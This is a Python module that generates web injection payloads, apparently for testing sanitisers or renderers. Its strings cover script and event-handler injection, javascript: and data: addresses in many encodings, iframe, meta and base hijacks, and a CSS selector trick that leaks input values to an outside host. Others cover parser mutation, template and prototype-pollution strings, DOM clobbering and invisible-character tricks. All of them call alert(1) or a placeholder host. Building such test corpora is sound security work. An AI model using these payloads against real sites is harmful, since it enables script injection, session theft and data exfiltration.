"""Texts that would run, load or take over something if a page took them for more than text.

Each calls alert(1) or asks something of `CANARY`, a host that doesn't exist.
"""

from collections.abc import Iterator
from urllib.parse import quote

CANARY = "canary.invalid"
RUN = "alert(1)"
URL = f"//{CANARY}/x"
_HANDLERS = (
    *("onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle"),
    *("onanimationstart", "onblur", "oninput", "onchange", "onscroll", "onwheel", "oncopy"),
    *("onpaste", "onbegin", "onend", "onhashchange", "onpageshow", "onresize", "onbeforetoggle"),
    *("onauxclick", "onkeydown", "ondrag", "ontransitionend", "onformdata"),
)
_FOREIGN = ("svg", "math", "video", "audio", "details", "marquee", "object", "embed", "input")
_NAMES = (
    *("app", "attributes", "body", "children", "createElement", "cookie", "document", "forms"),
    *("head", "implementation", "innerHTML", "location", "nodeName", "ownerDocument"),
    *("parentNode", "self", "submit", "textContent", "top"),
)
_ENDS = ('"', "'", "`", '">', "'>", "-->", "</title>", "</textarea>", "</style>", "</script>")
_CONTROLS = "\u200e\u200f\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069"
_SPACES = "\t\n\r\f\v\u00a0\u2028\u2029\u3000\ufeff"


def tags() -> Iterator[str]:
    """Elements that run or load as soon as they are there."""
    yield from (
        f"<script>{RUN}</script>",
        f"<ScRiPt>{RUN}</sCrIpT>",
        f"<script src={URL}></script>",
        f"<script>{RUN}",
        f"<script\x20type=module>import('{URL}')</script>",
        f"<img src=x onerror={RUN}>",
        f"<img/src='x'/onerror='{RUN}'>",
        f"<img src={URL}>",
        f"<image href={URL}>",
        f"<link rel=stylesheet href={URL}>",
        f"<link rel=prefetch href={URL}>",
        f"<body onload={RUN}>",
        f"<frameset onload={RUN}>",
        f"<template><script>{RUN}</script></template>",
        f"<noscript><img src=x onerror={RUN}></noscript>",
        f"<textarea autofocus onfocus={RUN}>",
        f"<select autofocus onfocus={RUN}>",
        f"<button popovertarget=x>o</button><div popover id=x onbeforetoggle={RUN}>",
        f"<dialog open onclose={RUN}><form method=dialog>",
        f"<source srcset={URL} onerror={RUN}>",
        f"<<script>{RUN}//<</script>",
        f"<img src=x onerror={RUN}//",
        f"<a href=x onclick={RUN}>press</a>",
        f"<portal src={URL}>",
        f"<bgsound src={URL}>",
        f"<table background={URL}>",
        f"<isindex type=image src=1 onerror={RUN}>",
    )


def handlers() -> Iterator[str]:
    """Every way in which an element may run what is in an attribute, and foreign elements."""
    for handler in _HANDLERS:
        yield f"<b {handler}={RUN} tabindex=0>{handler[2:]}</b>"
    for name in _FOREIGN:
        yield f"<{name} src=x data=x onload={RUN} onerror={RUN} open ontoggle={RUN} autofocus>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><a href=javascript:{RUN}><text x=9 y=9>x</text></a></svg>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN} />#x'></svg>"
    yield f"<svg><foreignObject><iframe src=javascript:{RUN}></foreignObject></svg>"
    yield f"<svg><set attributeName=onmouseover to={RUN}>"
    yield f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>"
    yield f"<math href=javascript:{RUN}>x</math>"


def attributes() -> Iterator[str]:
    """Ways out of the attribute or the element that a text was put into."""
    for end in (
        '"',
        "'",
        "`",
        '">',
        "'>",
        "-->",
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
    ):
        yield f"{end}<img src=x onerror={RUN}>"
    for end in ('"', "'", " ", "/", "`"):
        yield f"x{end}onmouseover={RUN} autofocus onfocus={RUN} {end}"
    yield f'\\"-{RUN}-\\"'
    yield f"'-{RUN}-'"
    yield f"';{RUN}//"
    yield f'";{RUN}//'
    yield f"${{{RUN}}}"
    yield f"</script><script>{RUN}</script>"


def addresses() -> Iterator[str]:
    """Addresses that run, in every dress that a browser looks through."""
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        " javascript:",
        "javascript&colon;",
        "javascript&#58;",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "&#0000106avascript:",
        "java&Tab;script:",
        "javascript\u200b:",
        "\uff4aavascript:",
        "vbscript:",
        "livescript:",
        "feed:javascript:",
        "view-source:javascript:",
    ):
        yield f"[press]({scheme}{RUN})"
        yield f"<a href='{scheme}{RUN}'>press</a>"
    yield f"<javascript:{RUN}>"
    yield f"javascript:{RUN}"
    yield f"javascript://{CANARY}/%0a{RUN}"
    yield f"https://{CANARY}/x'onmouseover={RUN}'"
    yield f'https://{CANARY}/x"onmouseover="{RUN}'
    yield f"[x](data:text/html,<script>{RUN}</script>)"
    yield "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
    yield f"data:text/html,{quote(f'<script>{RUN}</script>')}"
    yield f"[x]: javascript:{RUN}\n[x]"
    yield f"![x](https://{CANARY}/x.png)"
    yield f"![x]({URL} 'a' onerror={RUN})"
    yield f"[x](<javascript:{RUN}>)"
    yield f'[x](https://x.example "onmouseover={RUN}")'
    yield f"`<img src=x onerror={RUN}>`"
    yield f"**<img src=x onerror={RUN}>**"
    yield f"> <img src=x onerror={RUN}>"
    yield f"```<script>{RUN}</script>"
    yield f"\\<img src=x onerror={RUN}\\>"


def frames() -> Iterator[str]:
    """What brings in a page, leads away from this one, or changes what its addresses mean."""
    yield f"<iframe srcdoc='<script>parent.{RUN}</script>'>"
    yield f"<iframe srcdoc=&lt;script&gt;{RUN}&lt;/script&gt;>"
    yield f"<iframe src=javascript:{RUN}>"
    yield f"<iframe src={URL}>"
    yield f"<object data={URL}>"
    yield f"<meta http-equiv=refresh content='0;url={URL}'>"
    yield f"<meta http-equiv=refresh content='0;javascript:{RUN}'>"
    yield "<meta http-equiv=Content-Security-Policy content='script-src *'>"
    yield f"<base href={URL}/>"
    yield f"<base target={CANARY}>"
    yield f"<form action={URL}><button>send</button></form>"
    yield f"<button form=x formaction=javascript:{RUN}>x</button>"
    yield f"<a ping={URL} href=x>x</a>"


def styles() -> Iterator[str]:
    """CSS that loads, hides, or reads what is on the page."""
    yield f"<style>@import '{URL}';</style>"
    yield f"<style>*{{background:url({URL})}}</style>"
    yield "<style>body{display:none}</style>"
    yield f"<b style=background:url({URL})>x</b>"
    yield "<b style=position:fixed;inset:0;z-index:9999>x</b>"
    yield f"</style><style>input[value^=a]{{background:url({URL})}}"
    yield f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationend={RUN}>"
    yield f"expression({RUN})"


def mutations() -> Iterator[str]:
    """What reads as harmless, and is something else once it was written and read again."""
    yield f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>"
    yield f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>"
    yield f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>"
    yield f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>"
    yield f"<!--<img src='--><img src=x onerror={RUN}//'>"
    yield f"<![CDATA[<img src=x onerror={RUN}>]]>"
    yield f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>"
    yield f"<!--><script>{RUN}</script-->"
    yield f"<? <img src=x onerror={RUN}> ?>"
    yield f"<!x <img src=x onerror={RUN}>"
    yield f"&lt;img src=x onerror={RUN}&gt;"
    yield f"&amp;lt;img src=x onerror={RUN}&amp;gt;"
    yield f"&#60;img src=x onerror={RUN}&#62;"
    yield f"%3Cimg src=x onerror={RUN}%3E"
    yield f"\\u003cimg src=x onerror={RUN}\\u003e"
    yield f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e"
    yield f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e"
    yield f"\u2039img src=x onerror={RUN}\u203a"
    yield f"\u02bc\u02ba><img src=x onerror={RUN}>"


def templates() -> Iterator[str]:
    """What a template language would evaluate, and names that a careless script trips over."""
    yield "{{ 7*7 }}{% debug %}"
    yield "{% load log %}{% get_admin_log 9 as x %}{{ settings.SECRET_KEY }}"
    yield f"{{{{constructor.constructor('{RUN}')()}}}}"
    yield f"#{{{RUN}}}<%= {RUN} %>"
    yield "%s %(text)s {0.__class__} {self.__init__}"
    yield '{"__proto__": {"isAdmin": true}}'
    yield '{"constructor": {"prototype": {"html": "<img src=x onerror=alert(1)>"}}}'
    yield "__proto__"
    yield "constructor"
    for name in _NAMES:
        yield f"<form id={name}><input name={name}></form>"


def characters() -> Iterator[str]:
    """Characters that turn the reading direction, are not seen, or end a line elsewhere."""
    for sign in _CONTROLS:
        yield f"a{sign}<img src=x onerror={RUN}>{sign}gpj.exe"
    for space in _SPACES:
        yield f"<img{space}src=x{space}onerror={RUN}>"
    yield f"<scr\u00adipt>{RUN}</scr\u00adipt>"
    yield f"<\u0131mg src=x onerror={RUN}>"
    yield f"<\u017fcript>{RUN}</\u017fcript>"
    yield f"</scr\u0130pt><img src=x onerror={RUN}>"
    yield f"Z\u0351\u036b\u0343\u036a<b onclick={RUN}>\u0302\u036b"


def polyglots() -> Iterator[str]:
    """Several ways out at once."""
    ends = "</stYle/</scRipt/-->"
    yield f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//{ends}<sVg/oNloAd={RUN}//>"
    yield f"'\"--></style></script></title></textarea><svg onload={RUN}>"
    yield f"\"'`><img src=x onerror={RUN}>{{{{7*7}}}}[x](javascript:{RUN})"
    yield f'-->\'"/></sCript><deTails open x=">" ontoggle=({RUN})>'


def every() -> list[str]:
    """All of them, each once."""
    groups = (
        tags,
        handlers,
        attributes,
        addresses,
        frames,
        styles,
        mutations,
        templates,
        characters,
        polyglots,
    )
    return list(dict.fromkeys(text for group in groups for text in group()))


def fitting(most: int) -> list[str]:
    """Those that go into a field of so many characters."""
    return [text for text in every() if len(text) <= most]
